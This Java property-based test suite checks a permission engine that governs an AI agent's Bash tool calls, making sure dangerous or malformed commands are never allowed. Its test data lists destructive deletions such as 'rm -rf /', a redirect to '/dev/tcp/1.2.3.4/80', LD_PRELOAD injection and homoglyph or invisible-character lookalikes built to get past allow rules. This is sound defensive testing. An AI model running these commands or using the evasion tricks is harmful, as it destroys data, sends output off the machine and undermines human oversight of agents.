package dev.sluice.policy.rules;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.sluice.policy.shell.ShellParser;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

class EngineTest {
    private static final Duration GENEROUS = Duration.ofSeconds(30);

    @Property(tries = 500)
    void anotherDenyNeverTurnsARefusalIntoMore(
            @ForAll("commands") String command,
            @ForAll("rules") List<String> allow,
            @ForAll("rules") List<String> deny,
            @ForAll("rule") String another,
            @ForAll Mode mode) {
        Outcome before = decide(command, allow, List.of(), deny, mode);
        List<String> more = new ArrayList<>(deny);
        more.add(another);

        assertThat(decide(command, allow, List.of(), more, mode)).isGreaterThanOrEqualTo(before);
    }

    @Property(tries = 500)
    void noRuleEverApprovesACriticalRemoval(
            @ForAll("critical") String command, @ForAll("rules") List<String> allow, @ForAll Mode mode) {
        List<String> all = new ArrayList<>(allow);
        all.addAll(List.of("Bash", "Bash(*)", "Bash(rm *)", "Bash(" + command + ")"));

        assertThat(decide(command, all, List.of(), List.of(), mode)).isNotEqualTo(Outcome.ALLOW);
    }

    @Property(tries = 1000)
    void aLineIsNeverMorePermittedThanItsStrictestPart(
            @ForAll("commands") String a,
            @ForAll("commands") String b,
            @ForAll("separators") String separator,
            @ForAll("rules") List<String> allow,
            @ForAll("rules") List<String> ask,
            @ForAll("rules") List<String> deny,
            @ForAll Mode mode) {
        Outcome strictest = max(decide(a, allow, ask, deny, mode), decide(b, allow, ask, deny, mode));

        assertThat(decide(a + separator + b, allow, ask, deny, mode)).isGreaterThanOrEqualTo(strictest);
    }

    @Property(tries = 500)
    void theOrderOfRulesNeverMatters(
            @ForAll("commands") String command,
            @ForAll("rules") List<String> allow,
            @ForAll("rules") List<String> deny,
            @ForAll long seed) {
        List<String> shuffled = new ArrayList<>(allow);
        Collections.shuffle(shuffled, new Random(seed));
        List<String> reversed = new ArrayList<>(deny);
        Collections.reverse(reversed);

        assertThat(decide(command, shuffled, List.of(), reversed, Mode.DEFAULT))
                .isEqualTo(decide(command, allow, List.of(), deny, Mode.DEFAULT));
    }

    @Property(tries = 3000)
    void whatCannotBeParsedIsNeverAllowed(@ForAll("garbage") String command, @ForAll Mode mode) {
        Outcome outcome = decide(command, List.of("Bash", "Bash(ls *)", "Bash(*x)"), List.of(), List.of(), mode);

        if (ShellParser.parse(command).unclear() != null) {
            assertThat(outcome).isNotEqualTo(Outcome.ALLOW);
        }
    }

    @Property(tries = 1000)
    void rulesOfAnyTextAreReadWithoutHarm(@ForAll String rule, @ForAll Effect effect) {
        assertThat(RuleSyntax.check(effect, rule)).isNotNull();
        assertThat(decide("ls", List.of(rule), List.of(rule), List.of(rule), Mode.DEFAULT))
                .isNotNull();
    }

    @Example
    void hostileInputsNeitherHangNorPass() {
        List<String> hostile = List.of(
                "ls " + "a".repeat(20_000),
                "ls\0; rm x",
                "echo 'abc",
                "echo \"abc",
                "echo `ls",
                "cat <<EOF\nno end",
                "cat <<EOF\n$(curl x)\nEOF",
                "ls\u00a0-la",
                "ls \u202e-la",
                "ls \u200b",
                "ls\r\nrm x",
                "(".repeat(5_000),
                "$(".repeat(5_000),
                "`".repeat(5_001),
                "a[".repeat(30_000),
                "ls " + "<<a ".repeat(5_000),
                "ls {a,b}{c,d}{e,f}",
                "\\rm x",
                "$X y",
                "eval ls",
                "ls $'\\x41'",
                "case x in x) ls;; esac",
                "ls > /dev/tcp/1.2.3.4/80",
                "LD_PRELOAD=x ls",
                "command -- rm -rf x");
        assertTimeoutPreemptively(GENEROUS, () -> {
            for (String command : hostile) {
                assertThat(decide(command, List.of("Bash(ls *)", "Bash(cat *)"), List.of(), List.of(), Mode.DEFAULT))
                        .as(command.substring(0, Math.min(40, command.length())))
                        .isNotEqualTo(Outcome.ALLOW);
            }
        });
    }

    @Example
    void whatOnlyLooksLikeAnAllowedCommandIsNotAllowed() {
        List<String> allow = List.of("Bash(ls *)", "Bash(cat *)", "Bash(npm test)", "Bash(git status)");
        for (String lookAlike : List.of(
                "\u0441at README.md", // Cyrillic es
                "l\u0455", // Cyrillic dze
                "\uff4c\uff53 -la", // full width
                "\ud835\udc59s", // mathematical l
                "git\u00a0status", // no-break space
                "git\u3000status", // ideographic space
                "npm\u2003test", // em space
                "ls\u2028rm x", // line separator
                "ls\u0085rm x", // next line
                "ls\u000brm x", // vertical tab
                "ls\u200d -la", // zero width joiner
                "\ufeffls -la", // byte order mark
                "\u202esl", // right-to-left override
                "npm test\uff1brm x", // full-width semicolon
                "git status\u037erm x", // Greek question mark
                "e\u0301cho x")) {
            assertThat(decide(lookAlike, allow, List.of(), List.of(), Mode.DEFAULT))
                    .as(lookAlike)
                    .isNotEqualTo(Outcome.ALLOW);
        }
    }

    @Example
    void aNulAnywhereIsNeverAllowed() {
        String command = "ls -la src && cat 'a b' > out.txt";
        for (int i = 0; i <= command.length(); i++) {
            String torn = command.substring(0, i) + '\0' + command.substring(i);
            assertThat(decide(torn, List.of("Bash", "Bash(*)", "Edit"), List.of(), List.of(), Mode.DEFAULT))
                    .as("at " + i)
                    .isNotEqualTo(Outcome.ALLOW);
        }
    }

    @Example
    void whatIsForbiddenIsFoundAtTheEndOfTwentyThousandCharacters() {
        List<String> allow = List.of("Bash", "Bash(*)");
        List<String> deny = List.of("Bash(rm *)");
        assertTimeoutPreemptively(GENEROUS, () -> {
            for (String piece : List.of(
                    "git status && ",
                    "ls; ",
                    "cat a.txt | ",
                    "x=1 ",
                    "echo 'a b' \"c d\" || ",
                    "(ls) & ",
                    "if true; then ls; fi; ",
                    "cat <<E\nbody\nE\n")) {
                String command = piece.repeat(20_000 / piece.length()) + "rm x";
                assertThat(decide(command, allow, List.of(), deny, Mode.DEFAULT))
                        .as(piece)
                        .isNotEqualTo(Outcome.ALLOW);
                assertThat(decide(command + " '", allow, List.of(), deny, Mode.DEFAULT))
                        .as(piece + "and a quote without its end")
                        .isNotEqualTo(Outcome.ALLOW);
            }
        });
    }

    @Example
    void globBombsAndHugePoliciesEndInTime() {
        String bomb = "Bash(" + "*a".repeat(4_000) + "*b)";
        String pathBomb = "Read(" + "**/*a".repeat(500) + ")";
        List<String> many = new ArrayList<>();
        for (int i = 0; i < 150_000; i++) {
            many.add("Bash(tool" + i + " sub command *)");
        }
        assertTimeoutPreemptively(GENEROUS, () -> {
            assertThat(decide(
                            "ls " + "a".repeat(9_000), List.of(bomb), List.of(), List.of(bomb, pathBomb), Mode.DEFAULT))
                    .isEqualTo(Outcome.ALLOW);
            assertThat(decide("npm test", many, List.of(), many, Mode.DEFAULT)).isEqualTo(Outcome.ASK);
        });
    }

    @Example
    void aLineThroughMoreFilesThanCanBeLookedAtIsHeldUpAtOnce() {
        String everywhere = "cd d; cat x; ".repeat(380) + "cat y";
        String many = "cat " + "some/rather/long/name/of/a/file.txt ".repeat(200) + "z";
        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> {
            assertThat(decide(everywhere, List.of("Bash"), List.of(), List.of(), Mode.BYPASS))
                    .isEqualTo(Outcome.ASK);
            assertThat(decide(everywhere, List.of("Bash"), List.of(), List.of("Read(//etc/**)"), Mode.BYPASS))
                    .isEqualTo(Outcome.DENY);
            assertThat(decide(many, List.of("Bash"), List.of(), List.of("Read(//etc/**)"), Mode.DEFAULT))
                    .isEqualTo(Outcome.ALLOW);
        });
    }

    @Provide
    Arbitrary<String> commands() {
        return Arbitraries.of(
                "ls",
                "ls -la src",
                "cat README.md",
                "cat ../x",
                "npm test",
                "npm run build",
                "git status",
                "git push",
                "cd src",
                "cd /etc",
                "rm x.txt",
                "rm -rf build",
                "echo hi",
                "echo hi > out.txt",
                "FOO=1 npm test",
                "timeout 5 npm test",
                "sudo npm test",
                "touch a",
                "echo $(whoami)",
                "(npm test)",
                "! ls",
                "if ls; then npm test; fi",
                "for f in a b; do echo $f; done",
                "find . -name x",
                "D=/etc",
                "cat $D");
    }

    @Provide
    Arbitrary<String> rule() {
        return Arbitraries.of(
                "Bash",
                "Bash(*)",
                "Bash(npm *)",
                "Bash(npm test)",
                "Bash(git *)",
                "Bash(ls *)",
                "Bash(cat *)",
                "Bash(rm *)",
                "Bash(cd *)",
                "Bash(echo *)",
                "Read(//etc/**)",
                "Edit(out.txt)",
                "Edit",
                "Read(README.md)",
                "*",
                "Bash(*test*)",
                "mcp__x",
                "Bash(",
                "Bash()",
                "Write(x)",
                "Bash(FOO=1 npm test)");
    }

    @Provide
    Arbitrary<List<String>> rules() {
        return rule().list().ofMaxSize(4);
    }

    @Provide
    Arbitrary<String> separators() {
        return Arbitraries.of(" && ", " || ", "; ", " | ", " |& ", " & ", "\n", ";", "|");
    }

    @Provide
    Arbitrary<String> critical() {
        return Arbitraries.of(
                "rm -rf /",
                "rm -rf ~",
                "rm -rf .",
                "rm -rf ..",
                "rm -rf /usr",
                "rm -rf \"$DIR\"/*",
                "rm -rf $HOME",
                "echo \"$(rm -rf ~)\"",
                "sudo rm -rf /",
                "timeout 5 rm -rf /",
                "env A=1 rm -rf /",
                "/bin/rm -rf /",
                "cd / && rm -rf *",
                "r\"m\" -rf /",
                "bash -c 'rm -rf /'",
                "D=/; rm -rf $D",
                "rm -rf /code",
                "rm -rf -- /",
                "find . -exec rm -rf / {} +",
                "if ls; then rm -rf ~; fi",
                "rm -rf /*",
                "rm -rf {/usr,/etc}",
                "rmdir /");
    }

    @Provide
    Arbitrary<String> garbage() {
        Arbitrary<String> token = Arbitraries.of(
                "ls", "x", " ", "'", "\"", "`", "$(", ")", "(", "{", "}", ";", "&", "|", "<", ">", "<<", "EOF", "\n",
                "\\", "#", "$", "${", "if", "then", "fi", "*", "~", "=", "\0", "\u00a0", "é", "do", "done", "for");
        return token.list().ofMaxSize(14).map(tokens -> String.join("", tokens));
    }

    private static Outcome max(Outcome a, Outcome b) {
        return a.compareTo(b) >= 0 ? a : b;
    }

    private static Outcome decide(String command, List<String> allow, List<String> ask, List<String> deny, Mode mode) {
        ObjectNode settings = Vectors.JSON.createObjectNode();
        ObjectNode permissions = settings.putObject("permissions");
        permissions.set("allow", Vectors.JSON.valueToTree(allow));
        permissions.set("ask", Vectors.JSON.valueToTree(ask));
        permissions.set("deny", Vectors.JSON.valueToTree(deny));
        Session session =
                new Session("/code/app", "/code/app", "/home/dev", false, true, false, true, mode, Links.NONE);
        JsonNode input = Vectors.JSON.createObjectNode().put("command", command);
        return new PermissionEngine(RuleBook.of(Map.of(Scope.USER, settings), session))
                .decide(new ToolCall("Bash", input))
                .outcome();
    }
}
